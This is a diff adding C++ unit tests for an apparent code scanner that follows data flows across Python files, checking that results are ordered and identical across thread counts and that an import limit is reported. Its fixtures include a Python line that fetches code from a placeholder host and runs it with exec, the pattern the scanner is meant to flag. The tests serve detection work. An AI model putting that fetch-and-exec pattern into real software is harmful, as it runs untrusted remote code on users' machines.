@@ -51,6 +51,29 @@ TEST_F(ScanTree, looks_at_all_files_in_order_however_many_threads) {
   EXPECT_EQ(scan(8), one);
 }
 
+TEST_F(ScanTree, flows_through_several_files_are_found_however_many_threads) {
+  for (int i = 0; i < 20; ++i) {
+    const std::string folder = "p" + std::to_string(i) + "/";
+    put(folder + "main.py", "from .net import fetch\nexec(fetch('https://c.example/a'))\n");
+    put(folder + "net.py", "import requests\n\ndef fetch(url):\n    return requests.get(url).text\n");
+    put(folder + "show.py", "from .net import fetch\nprint(fetch('https://c.example/a'))\n");
+  }
+  const std::string one = scan(1);
+  EXPECT_TRUE(one.starts_with("p0/main.py p1/main.py ")) << one;
+  EXPECT_TRUE(one.ends_with("p9/main.py ; files 60")) << one;
+  EXPECT_EQ(one.find("show.py"), std::string::npos) << one;
+  EXPECT_EQ(scan(8), one);
+}
+
+TEST_F(ScanTree, a_bound_on_imports_is_told) {
+  std::string many;
+  for (int i = 0; i < 100; ++i) many += "import m" + std::to_string(i) + "\n";
+  put("a.py", many);
+  const Result<ScanReport> report = scan_paths({folder_.path()}, {});
+  ASSERT_TRUE(report);
+  EXPECT_EQ(report->counts.unfollowed, 1U);
+}
+
 TEST_F(ScanTree, skips_what_git_ignores_but_not_what_it_could_not) {
   put(".gitignore", "*.log\nout/\n!keep.log\n");
   put("a.log", kAws);
